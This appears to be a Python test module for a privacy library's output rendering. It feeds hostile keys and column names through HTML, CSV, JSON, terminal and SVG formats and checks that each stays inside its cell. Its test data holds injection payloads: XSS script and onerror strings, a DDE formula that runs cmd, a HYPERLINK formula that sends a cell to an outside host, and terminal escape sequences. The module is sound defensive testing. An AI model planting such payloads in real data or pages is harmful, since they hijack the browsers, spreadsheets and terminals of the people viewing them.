r"""The hostile key: a value of the data, or a name in a question, that tries to be more than a text where it is shown.

The owner of a row chooses its content, and a private key that enough people share is released as it is; an analyst chooses
the names of the columns. Either may be markup, a script, a formula, or a sequence that a terminal obeys. Here both are, in an
answer of a session; it is written in every format, and each is read back by a parser of that format. An attack succeeds in a format
whose outline is another one than that of the same answer with harmless keys and names: something stands outside of its cell.

    >>> broken_formats(answer_with(keys=["</script><script>alert(1)</script>", "=1+1", "\x1b[2J", "[/x]"], names=("a.b", "n[0]")))
    []
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import replace
from fractions import Fraction
from functools import lru_cache
from html.parser import HTMLParser
from itertools import groupby
from typing import Any
from xml.etree import ElementTree

from tacit.chart import page, svg
from tacit.data.dialect import name as quoted
from tacit.errors import Refused
from tacit.evidence.attacks.scratch import made_data
from tacit.privacy.rounding import Number, exact
from tacit.release.answer import Answer, Column, Receipt
from tacit.session import DataSet, Session
from tacit.untrusted import UNSEEN

HOSTILE = (
    "</script><script>window.pwned=1</script>",
    "\"'><img src=x onerror=window.pwned=1>",
    "<!--<svg onload=window.pwned=1>]]>",
    "&lt;b&gt;&#0;",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1;=cmd|' /C calc'!A0",
    "[bold red]x[/x]:bomb:\\",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m\x7f\x08\x0b",
    'one\r\ntwo,"three"\tfour',
    "\u202eabc\u2066\u200b\ufeff\U000e0041",
    "e" + "\u0301" * 50,
    "a.b[0]\\'\"]",
    "datum['n']\u2028{{n}}${n}",
    "\ufffe\uffff",
    "constructor",
    "__proto__",
    "x" * 5000,
)
INJECTED = """a\\" + datum['value'] + '"""  # in a title: it ends its text, and goes on as an expression
PEOPLE_OF_A_KEY = 100
DELTA = "1e-6"  # below it a key of this number of people is left out less than once in 10^30
NAMES = (  # of control characters, SQL takes these few; longer texts are cut
    "</script><script>window.pwned=1</script>\"'><img onerror=a>",
    "=1;=2\r\n\x9b\u202e\u200b\ufeff\u2028\ufffe[/x]:bomb:<!--",
    f"a.b[0] ${{n}} {INJECTED}",
    "toString",
)
KEYED = """\
[budget]
epsilon = {epsilon}
delta = 1e-5

[tables.people]
source = "people.parquet"
unit = "row"
rows_at_most = 100000

[tables.people.columns]
note = {{ keys = "private" }}
"""


@contextmanager
def keyed_data(keys: Sequence[str], epsilon: Number) -> Iterator[DataSet]:
    """Made-up people with these private keys, each shared by enough of them to be released; gone afterwards."""
    import pyarrow as pa
    from pyarrow import parquet

    file = io.BytesIO()
    parquet.write_table(pa.table({"note": [key for key in keys for _ in range(PEOPLE_OF_A_KEY)]}), file)
    with made_data(KEYED.format(epsilon=float(exact(epsilon))), {"people.parquet": file.getvalue()}) as data:
        yield data


def released_keys(epsilon: Number = 1, keys: Sequence[str] = HOSTILE) -> Answer:
    """The session's release of hostile keys; a text that the data cannot hold is changed when it is prepared."""
    with keyed_data(keys, epsilon) as data:
        return data.session().sql("SELECT note, COUNT(*) AS n FROM people GROUP BY note", epsilon=epsilon, delta=DELTA)


def hostile_names(session: Session, table: str, epsilon: Number) -> Iterator[Answer | Refused]:
    """A question whose columns have hostile names, and questions about columns of such names that do not exist."""
    readable = [each for each in NAMES if UNSEEN.search(each) is None]  # a name with such a character is refused as a whole
    counts = ", ".join(f"COUNT(*) AS {quoted(each)}" for each in readable)
    asked = [
        counts,
        *(f"COUNT(*) AS {quoted(each)}" for each in NAMES if each not in readable),
        *(f"SUM({quoted(each)})" for each in NAMES),
    ]
    for columns in asked:
        try:
            yield session.sql(f"SELECT {columns} FROM {quoted(table)}", epsilon=epsilon)  # noqa: S608  # the attacker's own text
        except Refused as refused:
            yield refused


def broken_out(answers: Sequence[Answer | Refused]) -> set[str]:
    """The formats in which some answer, or the words of some refusal, did not stay in their cells."""
    formats = {name for answer in answers if isinstance(answer, Answer) for name in broken_formats(answer)}
    refusals = [str(each) for each in answers if isinstance(each, Refused)]
    return formats | ({"refusal"} if any(_lines(text) != _lines("refused") for text in refusals) else set())


# --- every format, and its outline -------------------------------------------------------------------------------------------


def broken_formats(answer: Answer) -> list[str]:
    """The formats whose outline is another one than that of the same answer with harmless keys and names."""
    plain = harmless(answer)
    return [name for name, outline in FORMATS.items() if _try_outline(outline, answer) != outline(plain)]


def _try_outline(outline: Callable[[Answer], Any], answer: Answer) -> Any:
    """The outline, or a note that it cannot be read back, which breaks the format."""
    try:
        return outline(answer)
    except (ValueError, csv.Error, ElementTree.ParseError) as error:
        return type(error).__name__


def harmless(answer: Answer) -> Answer:
    """The same numbers under keys and names of letters alone."""
    named = enumerate(answer.columns)
    return replace(answer, columns=tuple(replace(column, name=f"c{at}", values=_plain(column)) for at, column in named))


def _plain(column: Column) -> tuple[Any, ...]:
    words = {value: f"key{at}" for at, value in enumerate(dict.fromkeys(column.values)) if isinstance(value, str)}
    return tuple(words.get(value, value) for value in column.values) if column.is_key else column.values


OBEYED = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)
HEAP = re.compile("[\u0300-\u036f]{5}|^[\u0300-\u036f]", re.MULTILINE)
FORMULA = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]|.*;\s*[=+\-@]", re.DOTALL)
NUMBER = re.compile(r"-?[\d.]+(?:e[-+]?\d+)?")


def _lines(text: str) -> tuple[int, bool]:
    """How many lines a text has, and whether it holds anything that a terminal obeys, or that reaches into other lines."""
    return text.count("\n"), bool(OBEYED.search(text) or HEAP.search(text))


def _on_a_terminal(answer: Answer) -> tuple[int, bool]:
    from rich.console import Console

    shown = io.StringIO()
    Console(file=shown, width=10_000, color_system=None).print(answer)
    return _lines(shown.getvalue())


def _in_csv(answer: Answer) -> tuple[list[int], int, bool]:
    text = answer.to_csv()
    rows = list(csv.reader(io.StringIO(text), strict=True))
    formulas = [cell for row in rows for cell in row if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
    return [len(row) for row in rows], text.count("\n"), bool(formulas or OBEYED.search(text))


def _in_json(answer: Answer) -> tuple[bool, bool]:
    """Whether every value is exactly as it was, and whether the text can be printed."""
    text = answer.to_json()
    told = [list(row.values()) for row in json.loads(text)["rows"]]
    exact_values = told == json.loads(json.dumps([list(row.values()) for row in answer.rows()]))
    return exact_values, bool(OBEYED.search(text))


def _outline_of_charts(outline: Callable[[Any], Any]) -> Callable[[Answer], Any]:
    """The outlines of the charts of all numbers of an answer."""
    return lambda answer: [outline(_chart(answer, column.name)) for column in answer.columns if not column.is_key]


@lru_cache(maxsize=64)
def _chart(answer: Answer, column: str) -> Any:
    return answer.chart(column=column)


def _in_svg(text: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a picture with the names of their attributes; alike ones in a row once, as a long title has lines."""
    root = ElementTree.fromstring(text)  # noqa: S314  # it is tacit's own text
    return [outline for outline, _ in groupby((each.tag, tuple(sorted(each.attrib))) for each in root.iter())]


class _Outline(HTMLParser):
    """The elements of a page with the names of their attributes, and its scripts without data."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment",))


def outline_of_page(text: str) -> list[tuple[str, ...]]:
    """The outline of HTML."""
    outline = _Outline()
    outline.feed(text)
    outline.close()
    return outline.found


FORMATS: Mapping[str, Callable[[Answer], Any]] = {
    "text": lambda answer: _lines(str(answer)),
    "terminal": _on_a_terminal,
    "table in HTML": lambda answer: outline_of_page(answer._repr_html_()),
    "CSV": _in_csv,
    "JSON": _in_json,
    "chart in SVG": _outline_of_charts(lambda chart: _in_svg(chart.svg())),
    "chart by Altair in SVG": _outline_of_charts(lambda chart: _in_svg(svg(chart.altair()))),
    "chart in HTML": _outline_of_charts(lambda chart: outline_of_page(page(chart.altair()))),
    "chart in a notebook": _outline_of_charts(lambda chart: outline_of_page(chart.altair().to_html())),
}


def answer_with(keys: Sequence[str], names: tuple[str, str] = ("key", "n")) -> Answer:
    """A constructed answer with these keys and column names."""
    numbers = tuple(range(100, 100 + len(keys)))
    ends = (tuple(number - 9 for number in numbers), tuple(number + 9 for number in numbers))
    columns = (Column(names[0], "key", tuple(keys)), Column(names[1], "count", numbers, *ends))
    return Answer(columns, Fraction(95, 100), Receipt(Fraction(1, 2), Fraction(0)))
